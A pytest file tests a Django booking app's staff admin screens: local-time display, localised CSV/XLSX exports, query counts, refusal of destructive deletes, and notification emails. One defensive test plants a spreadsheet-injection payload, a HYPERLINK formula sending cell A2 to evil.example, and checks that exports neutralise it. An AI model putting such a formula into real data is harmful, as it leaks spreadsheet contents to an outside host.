"""Staff screens show local time, never 500, ask before destroying, and keep a constant number of queries."""

import csv
import datetime
import io

import pytest
from bs4 import BeautifulSoup
from django.core import mail
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from icalendar import Calendar
from openpyxl import load_workbook

from booking.models import Booking, BookingEmail, Counselor, Offering, Session
from core.models import OutboxStatus
from tests import clock
from tests.booking.factories import (
    BookingFactory,
    CounselorFactory,
    OfferingFactory,
    ScheduleFactory,
    SessionFactory,
    WaitingListEntryFactory,
)

from .conftest import local

pytestmark = pytest.mark.django_db


def fifteen_wib():
    """15:00 in Jakarta (08:00 UTC: a screen printing UTC would say 08.00), a few days from the
    test's clock: the admin screens read the clock, so a fixed date would pass into the past."""
    day = clock.today() + datetime.timedelta(days=5)
    return local(day.year, day.month, day.day, 15)


def text(response):
    return BeautifulSoup(response.content, "html.parser").get_text(" ", strip=True)


@pytest.fixture
def afternoon_booking():
    offering = OfferingFactory(title="Kelompok sore")
    start = fifteen_wib()
    session = SessionFactory(offering=offering, start=start, original_start=start)
    return BookingFactory(session=session, name="Ayu", email="ayu@contoh.id", age_group="18_plus")


@pytest.mark.parametrize(
    "url", ["/admin/booking/sessions/", "/admin/booking/bookings/", "/admin/booking/emails/"]
)
def test_admin_listings_show_a_15_00_wib_session_at_15_00(admin_client, afternoon_booking, url):
    BookingEmail.objects.create(booking=afternoon_booking, kind="confirmation")
    page = text(admin_client.get(url))
    assert "15.00 WIB" in page
    assert "08.00" not in page and "08:00" not in page


def test_edit_page_title_and_history_show_local_time(admin_client, afternoon_booking):
    assert "15.00 WIB" in text(admin_client.get(f"/admin/booking/bookings/edit/{afternoon_booking.pk}/"))
    assert "15.00 WIB" in text(
        admin_client.get(f"/admin/booking/sessions/edit/{afternoon_booking.session_id}/")
    )


@pytest.mark.parametrize("browser_language", ["", "en"])
def test_exports_are_in_the_admins_language_with_sortable_local_times(
    admin_client, admin_user, afternoon_booking, browser_language
):
    from wagtail.users.models import UserProfile

    # An English browser must not turn the CSV (written after the view) of an admin who chose
    # Bahasa Indonesia into English.
    UserProfile.objects.update_or_create(user=admin_user, defaults={"preferred_language": "id-id"})
    headers = {"HTTP_ACCEPT_LANGUAGE": browser_language} if browser_language else {}
    start = timezone.localtime(afternoon_booking.session.start)
    response = admin_client.get("/admin/booking/bookings/", {"export": "csv"}, **headers)
    body = b"".join(response.streaming_content).decode() if response.streaming else response.content.decode()
    (row,) = list(csv.DictReader(io.StringIO(body)))
    assert row["Sesi dimulai (WIB)"] == start.strftime("%Y-%m-%d 15:00")
    assert row["Layanan"] == "Kelompok sore"
    assert row["Kelompok usia"] == "18 tahun atau lebih"
    assert row["Status"] == "Terkonfirmasi"
    assert "18_plus" not in body and "confirmed" not in body

    xlsx = admin_client.get("/admin/booking/bookings/", {"export": "xlsx"}, **headers)
    sheet = load_workbook(
        io.BytesIO(b"".join(xlsx.streaming_content) if xlsx.streaming else xlsx.content)
    ).active
    headings, values = (list(row) for row in sheet.iter_rows(values_only=True))
    exported = dict(zip(headings, values, strict=True))
    assert exported["Sesi dimulai (WIB)"] == start.replace(tzinfo=None)  # a real date-time, in WIB
    assert isinstance(exported["Dipesan pada (WIB)"], datetime.datetime)
    assert exported["Kelompok usia"] == "18 tahun atau lebih"


def test_schedules_listing_says_the_rule_in_words(admin_client):
    import recurrence

    ScheduleFactory(
        recurrences=recurrence.Recurrence(
            rrules=[recurrence.Rule(recurrence.WEEKLY, byday=[recurrence.TU, recurrence.TH])]
        )
    )
    page = text(admin_client.get("/admin/booking/schedules/"))
    assert "Setiap Selasa dan Kamis, 15.00 WIB" in page
    assert "RRULE" not in page


def listing_queries(client, url):
    with CaptureQueriesContext(connection) as queries:
        assert client.get(url).status_code == 200
    return len(queries)


def make_rows(count):
    counselor = CounselorFactory()
    for number in range(count):
        start = fifteen_wib() + datetime.timedelta(days=number)
        offering = OfferingFactory()
        session = SessionFactory(offering=offering, start=start, original_start=start, counselor=counselor)
        booking = BookingFactory(session=session)
        BookingEmail.objects.create(booking=booking, kind="confirmation", status=OutboxStatus.FAILED)
        ScheduleFactory(offering=offering, counselor=counselor)
        WaitingListEntryFactory(session=session)


@pytest.mark.parametrize(
    "url",
    [
        "/admin/booking/sessions/",
        "/admin/booking/bookings/",
        "/admin/booking/emails/",
        "/admin/booking/schedules/",
        "/admin/booking/offerings/",
        "/admin/booking/counselors/",
        "/admin/booking/waiting/",
        "/admin/",
        "/admin/reports/service/",
    ],
)
def test_admin_listings_run_the_same_number_of_queries_for_1_and_20_rows(admin_client, url):
    make_rows(1)
    admin_client.get(url)  # warm per-process caches (content types, permissions)
    one = listing_queries(admin_client, url)
    make_rows(19)
    assert listing_queries(admin_client, url) == one


def test_changing_a_bookings_email_to_one_already_in_the_session_is_a_form_error(
    admin_client, afternoon_booking
):
    other = BookingFactory(session=afternoon_booking.session, email="budi@contoh.id", name="Budi")
    data = {
        "name": "Budi",
        "email": "AYU@contoh.id",
        "phone": "",
        "school_class": "",
        "age_group": "18_plus",
        "guardian_name": "",
        "guardian_contact": "",
        "topic": "",
        "contact_channel": "email",
    }
    response = admin_client.post(f"/admin/booking/bookings/edit/{other.pk}/", data)
    assert response.status_code == 200
    assert "Sudah ada orang dengan email ini yang punya tempat di sesi ini." in text(response)
    other.refresh_from_db()
    assert other.email == "budi@contoh.id"


@pytest.mark.parametrize(("model", "url"), [(Counselor, "counselors"), (Offering, "offerings")])
def test_deleting_a_counselor_or_offering_with_sessions_is_refused_with_a_reason(
    admin_client, afternoon_booking, model, url
):
    afternoon_booking.session.counselor = CounselorFactory()
    afternoon_booking.session.save()
    instance = model.objects.get(
        pk=afternoon_booking.session.counselor_id
        if model is Counselor
        else afternoon_booking.session.offering_id
    )
    response = admin_client.post(f"/admin/booking/{url}/delete/{instance.pk}/", follow=True)
    assert response.status_code == 200
    assert "riwayat pemesanan" in text(response)
    assert model.objects.filter(pk=instance.pk).exists()


def test_a_failed_email_is_shown_on_the_admin_home_and_can_be_sent_again(
    admin_client, afternoon_booking, django_capture_on_commit_callbacks
):
    booking_email = BookingEmail.objects.create(
        booking=afternoon_booking, kind="confirmation", status=OutboxStatus.FAILED, attempts=5
    )
    home = text(admin_client.get("/admin/"))
    assert "1 email gagal terkirim." in home
    assert "tidak akan dicoba lagi secara otomatis" in home

    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(f"/admin/emails/booking/{booking_email.pk}/send-again/")
    assert response.status_code == 302
    booking_email.refresh_from_db()
    assert booking_email.status == OutboxStatus.SENT
    assert [m.to for m in mail.outbox] == [["ayu@contoh.id"]]
    assert "gagal terkirim" not in text(admin_client.get("/admin/"))


def test_staff_moving_a_session_emails_everyone_booked_with_an_updated_calendar(
    admin_client, afternoon_booking, django_capture_on_commit_callbacks
):
    session = afternoon_booking.session
    later = session.start + timezone.timedelta(hours=1)
    data = {
        "start": timezone.localtime(later).strftime("%Y-%m-%d %H:%M"),
        "end": timezone.localtime(later + timezone.timedelta(hours=1)).strftime("%Y-%m-%d %H:%M"),
        "counselor": "",
        "places": str(session.places),
    }
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(f"/admin/booking/sessions/edit/{session.pk}/", data)
    assert response.status_code == 302
    (message,) = mail.outbox
    assert message.to == ["ayu@contoh.id"] and message.subject == "Janji temu kamu berubah"
    assert "16.00–17.00 WIB" in message.body
    calendar = Calendar.from_ical(message.attachments[0][1])
    event = calendar.walk("VEVENT")[0]
    assert str(calendar["method"]) == "REQUEST"
    assert event["uid"] == f"{afternoon_booking.calendar_uid}@rangkul"
    assert event["sequence"] == 1
    assert event.decoded("dtstart") == later
    ics = message.attachments[0][1]
    assert afternoon_booking.manage_token not in (ics.decode() if isinstance(ics, bytes) else ics)
    assert afternoon_booking.manage_token in message.body


def test_changing_only_places_tells_nobody(
    admin_client, afternoon_booking, django_capture_on_commit_callbacks
):
    session = afternoon_booking.session
    data = {
        "start": timezone.localtime(session.start).strftime("%Y-%m-%d %H:%M"),
        "end": timezone.localtime(session.end).strftime("%Y-%m-%d %H:%M"),
        "counselor": "",
        "places": "9",
    }
    with django_capture_on_commit_callbacks(execute=True):
        assert admin_client.post(f"/admin/booking/sessions/edit/{session.pk}/", data).status_code == 302
    assert mail.outbox == []
    assert Session.objects.get(pk=session.pk).places == 9


def test_moving_an_offering_to_another_room_tells_everyone_booked(
    admin_client, afternoon_booking, django_capture_on_commit_callbacks
):
    offering = afternoon_booking.session.offering
    response = admin_client.get(f"/admin/booking/offerings/edit/{offering.pk}/")
    form = response.context["form"]
    data = {name: form[name].value() for name in form.fields}
    data = {k: ("" if v is None else v) for k, v in data.items()}
    data["counselors"] = []
    data["is_online"] = ""
    data["is_active"] = "on"
    data["location"] = "Gedung C, ruang 5"
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(f"/admin/booking/offerings/edit/{offering.pk}/", data)
    assert response.status_code == 302, text(response)
    (message,) = mail.outbox
    assert "Gedung C, ruang 5" in message.body
    assert Booking.objects.get().calendar_sequence == 1


def test_exports_never_run_a_formula_and_survive_control_characters(admin_client, afternoon_booking):
    afternoon_booking.phone = "0812\x0b\x01"
    afternoon_booking.guardian_name = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")'
    afternoon_booking.school_class = "@SUM(A1)"
    afternoon_booking.save()
    response = admin_client.get("/admin/booking/bookings/", {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode()
    (row,) = list(csv.DictReader(io.StringIO(body)))
    assert row["Nama orang tua atau wali"].startswith("'=HYPERLINK(") and row["Kelas"] == "'@SUM(A1)"

    xlsx = admin_client.get("/admin/booking/bookings/", {"export": "xlsx"})
    assert xlsx.status_code == 200
    sheet = load_workbook(
        io.BytesIO(b"".join(xlsx.streaming_content) if xlsx.streaming else xlsx.content)
    ).active
    headings, values = (list(row) for row in sheet.iter_rows(values_only=True))
    exported = dict(zip(headings, values, strict=True))
    assert exported["Telepon"] == "0812  "
    guardian_cell = sheet.cell(row=2, column=headings.index("Nama orang tua atau wali") + 1)
    assert (
        guardian_cell.value.startswith("=HYPERLINK(") and guardian_cell.data_type == "s"
    )  # text, not a formula
